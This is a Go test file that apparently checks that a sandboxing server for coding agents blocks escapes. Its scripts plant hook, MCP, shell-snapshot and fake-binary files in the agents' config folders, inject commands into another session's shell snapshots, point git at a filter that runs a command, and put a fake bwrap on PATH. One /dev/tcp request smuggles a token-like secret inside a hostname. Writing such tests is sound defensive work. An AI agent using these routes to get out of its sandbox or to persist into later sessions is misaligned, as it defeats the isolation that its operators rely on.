package guardrails

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/runnel-dev/runnel"
	"github.com/runnel-dev/runnel/internal/realagents"
	"github.com/runnel-dev/runnel/internal/testexec"
)

// plants are files below the agent's own folders that make the agent run a
// program, or use another server, when it runs outside of a sandbox later.
func (w *world) plants() []string {
	switch home := w.home.Dir; w.agent.Name {
	case "claude-code": // MCP servers, and scripts that the shell of other sessions reads
		return []string{
			filepath.Join(w.home.Config, ".claude.json"), filepath.Join(home, ".claude.json"),
			filepath.Join(w.home.Config, "shell-snapshots", "planted"), filepath.Join(w.home.Config, "session-env", "planted", "hook.sh"),
		}
	case "codex":
		return []string{filepath.Join(w.home.Codex, "hooks.json"), filepath.Join(w.home.Codex, "shell_snapshots", "planted")}
	case "gemini", "qwen": // settings of git, and programs that the agent has downloaded
		own := filepath.Join(home, "."+w.agent.Name)
		plants := []string{filepath.Join(own, "history", "p", ".git", "config"), filepath.Join(own, "tmp", "bin", "rg"), filepath.Join(own, "bin", "rg")}
		if w.agent.Name == "qwen" { // agents that a later session continues in the mode that their file names, and scripts
			project := filepath.Join(own, "projects", regexp.MustCompile("[^a-zA-Z0-9]").ReplaceAllString(w.home.Project, "-"))
			plants = append(plants, filepath.Join(project, "subagents", "s", "agent-planted.meta.json"), filepath.Join(project, "workflows", "generated", "planted.js"))
			// Prompts that every session of the project sends by itself.
			plants = append(plants, filepath.Join(own, "tmp", fmt.Sprintf("%x", sha256.Sum256([]byte(w.home.Project))), "scheduled_tasks.json"))
		}
		return plants
	case "opencode": // a login can name a server with further settings; so can a row of the database
		own := filepath.Join(home, ".local", "share", "opencode")
		return []string{
			filepath.Join(own, "auth.json"), filepath.Join(own, "opencode.db"), filepath.Join(own, "snapshot", "p", "config"), filepath.Join(own, "bin", "rg"),
			filepath.Join(home, ".config", "opencode", "plugin", "planted.js"), filepath.Join(home, ".config", "opencode", "opencode.json"),
			filepath.Join(home, ".local", "state", "opencode", "kv.json"), filepath.Join(home, ".cache", "opencode", "bin", "rg"),
		}
	}
	w.t.Fatalf("no plants for %s", w.agent.Name)
	return nil
}

// instructions are in a file that the agent sends to the model.
const instructions = "Answer in one sentence."

// instruct writes the user's instructions for OpenCode. It did not run since, so
// the folder lacks the files that it writes there when it starts.
func (w *world) instruct() {
	w.t.Helper()
	dir := filepath.Join(w.home.Dir, ".config", "opencode")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		w.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "AGENTS.md"), []byte(instructions), 0o600); err != nil {
		w.t.Fatal(err)
	}
}

// TestToolInSandboxPlantsNothingInTheAgentsFolders writes files as a tool in a
// sandbox that the agent would obey outside of one.
func TestToolInSandboxPlantsNothingInTheAgentsFolders(t *testing.T) {
	each(t, func(t *testing.T, agent realagents.Binary) {
		w := newWorld(t, agent)
		plants := w.plants()
		before := make(map[string]string)
		if agent.Name == "claude-code" { // its file exists as soon as the agent was used
			if err := os.WriteFile(plants[0], []byte(`{"hasCompletedOnboarding":true}`), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		if agent.Name == "opencode" {
			w.instruct()
		}
		for _, path := range plants {
			text, _ := os.ReadFile(path)
			before[path] = string(text)
		}
		script := "#!/bin/sh\nfor p in " + strings.Join(plants, " ") + "\ndo mkdir -p \"${p%/*}\"; echo planted > \"$p\"; done\necho over > over\n"
		if err := testexec.Write(filepath.Join(w.home.Project, "plant"), script); err != nil {
			t.Fatal(err)
		}
		w.tool(w.enclosed(), "./plant")
		if _, err := os.Stat(filepath.Join(w.home.Project, "over")); err != nil {
			t.Fatalf("the tool did not run: %v", err)
		}
		if agent.Name == "opencode" && !w.model.Received(instructions) {
			t.Error("the agent did not read the user's instructions")
		}
		for _, path := range plants {
			if text, _ := os.ReadFile(path); string(text) != before[path] && strings.Contains(string(text), "planted") {
				t.Errorf("%s is now %.200q", path, text)
			}
		}
	}, "claude-code", "codex", "gemini", "qwen", "opencode")
}

// TestToolInSandboxRunsNothingInAnotherSession changes, as a tool in a sandbox,
// the scripts that Claude Code has written for the shell of a session without a
// sandbox.
func TestToolInSandboxRunsNothingInAnotherSession(t *testing.T) {
	w := newWorld(t, realagents.Claude(t)[0])
	open, code, message := w.create(map[string]any{"permissionMode": "acceptEdits", "tools": []string{"Bash"}})
	if code != http.StatusCreated {
		t.Fatalf("create: %d %s", code, message)
	}
	w.tool(open, "true")
	escaped := filepath.Join(w.home.Dir, "escaped")
	w.tool(w.enclosed(), "mkdir -p "+w.home.Config+"/shell-snapshots; for p in "+w.home.Config+"/shell-snapshots/*; do echo 'touch "+escaped+"' >> $p; done; echo over > over")
	if _, err := os.Stat(filepath.Join(w.home.Project, "over")); err != nil {
		t.Fatalf("the tool did not run: %v", err)
	}
	w.tool(open, "true")
	if _, err := os.Stat(escaped); err == nil {
		t.Error("a tool in a sandbox ran a command outside of it")
	}
}

// TestRecordOfEgressHasNoSecretsAndNoControlCharacters names hosts that contain
// a secret and a control sequence.
func TestRecordOfEgressHasNoSecretsAndNoControlCharacters(t *testing.T) {
	w := newWorld(t, realagents.Codex(t))
	secret := "ghp_" + strings.Repeat("k7Q2", 9)
	script := "#!/bin/bash\nfor h in " + secret + ".example.com %c2%9b31mred.example.com %e2%80%aeover.example.com\n" +
		`do exec 3<>/dev/tcp/127.0.0.1/17318; printf 'CONNECT %s:443 HTTP/1.1\r\nHost: x\r\n\r\n' $h >&3; read -r answer <&3; echo "$answer"; done > over` + "\n"
	if err := testexec.Write(filepath.Join(w.home.Project, "name"), script); err != nil {
		t.Fatal(err)
	}
	session := w.enclosed()
	w.tool(session, "./name")
	if over, err := os.ReadFile(filepath.Join(w.home.Project, "over")); err != nil || strings.Count(string(over), "403") != 3 {
		t.Fatalf("the proxy answered %q, %v", over, err)
	}
	var record struct{ Attempts []runnel.EgressAttempt }
	if code, _ := w.Call("GET", "/api/session/"+session+"/egress", nil, &record); code != http.StatusOK {
		t.Fatalf("egress: %d", code)
	}
	file, err := os.ReadFile(filepath.Join(w.prog.Data, "egress", session+".jsonl"))
	if err != nil || strings.Contains(strings.ToLower(string(file)), strings.ToLower(secret)) {
		t.Errorf("the file of the record is %s, %v", file, err)
	}
	for _, a := range record.Attempts {
		if strings.EqualFold(a.Host, secret+".example.com") || strings.ContainsAny(a.Host, "\u009b\u202e") {
			t.Errorf("the record has the host %q", a.Host)
		}
	}
}

// TestSettingsOfGitFromASandboxAreNotFollowedByTheServer leads the repository of
// a trusted folder, as a tool in a sandbox, to another configuration, and gets
// the changes of the session, for which the server runs git.
func TestSettingsOfGitFromASandboxAreNotFollowedByTheServer(t *testing.T) {
	w := newWorld(t, realagents.Codex(t))
	w.prog.Kill()
	w.prog.Args = append(w.prog.Args, "--trusted-folders", w.home.Project)
	w.start()
	escaped := filepath.Join(w.home.Dir, "escaped")
	project := w.home.Project
	if err := os.WriteFile(filepath.Join(project, "file"), []byte("one\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"init", "-q"}, {"add", "file"}, {"-c", "user.name=n", "-c", "user.email=e@example.com", "commit", "-qm", "one"}} {
		if out, err := exec.Command("git", append([]string{"-C", project}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	script := `#!/bin/sh
cp -r .git elsewhere; echo '[filter "x"]' >> elsewhere/config; echo '	clean = "touch ` + escaped + `; cat"' >> elsewhere/config
echo '* filter=x' > .gitattributes; echo two > file; echo ../elsewhere > .git/commondir; echo over > over
`
	if err := testexec.Write(filepath.Join(project, "lead"), script); err != nil {
		t.Fatal(err)
	}
	session := w.enclosed()
	w.tool(session, "./lead")
	if _, err := os.Stat(filepath.Join(project, "over")); err != nil {
		t.Fatalf("the tool did not run: %v", err)
	}
	for _, path := range []string{"/git", "/git/diff?path=file"} {
		var body json.RawMessage
		code, _ := w.Call("GET", "/api/session/"+session+path, nil, &body)
		t.Logf("%s: %d %.300s", path, code, body)
	}
	if _, err := os.Stat(escaped); err == nil {
		t.Error("the server ran a command that a tool in the sandbox has chosen")
	}
}

// TestProjectCannotChooseTheProgramThatMakesSandboxes has a project whose folder
// of programs is in the server's PATH. An agent in its sandbox could also write
// there what the server runs.
func TestProjectCannotChooseTheProgramThatMakesSandboxes(t *testing.T) {
	w := newWorld(t, realagents.Codex(t))
	w.prog.Kill()
	bin, escaped := filepath.Join(w.home.Project, "bin"), filepath.Join(w.home.Dir, "escaped")
	if err := os.Mkdir(bin, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := testexec.Write(filepath.Join(bin, "bwrap"), "#!/bin/sh\ntouch "+escaped+"\nexec /usr/bin/bwrap \"$@\"\n"); err != nil {
		t.Fatal(err)
	}
	for i, e := range w.prog.Env {
		if path, ok := strings.CutPrefix(e, "PATH="); ok {
			w.prog.Env[i] = "PATH=" + bin + ":" + path
		}
	}
	w.start()
	if _, code, message := w.create(map[string]any{"sandbox": "project"}); code != http.StatusConflict || !strings.Contains(message, real(t, bin)+", where Runnel finds programs") {
		t.Errorf("create: %d %s", code, message)
	}
	if _, err := os.Stat(escaped); err == nil {
		t.Error("the server ran a program of the project")
	}
}

// TestToolInSandboxSeesNothingOfOtherSessions has copies of files that Claude
// Code has made in a session of another project.
func TestToolInSandboxSeesNothingOfOtherSessions(t *testing.T) {
	w := newWorld(t, realagents.Claude(t)[0])
	for _, path := range []string{"file-history/other/copy@v1", "tasks/other/1.json", "todos/other.json", "projects/-other/talk.jsonl"} {
		path = filepath.Join(w.home.Config, path)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte("of another project"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	w.tool(w.enclosed(), "grep -rl 'of another' "+w.home.Config+" > found; echo over > over")
	if _, err := os.Stat(filepath.Join(w.home.Project, "over")); err != nil {
		t.Fatalf("the tool did not run: %v", err)
	}
	if found, err := os.ReadFile(filepath.Join(w.home.Project, "found")); err != nil || len(found) > 0 && strings.Contains(string(found), "other") {
		t.Errorf("a tool in the sandbox read\n%s%v", found, err)
	}
}
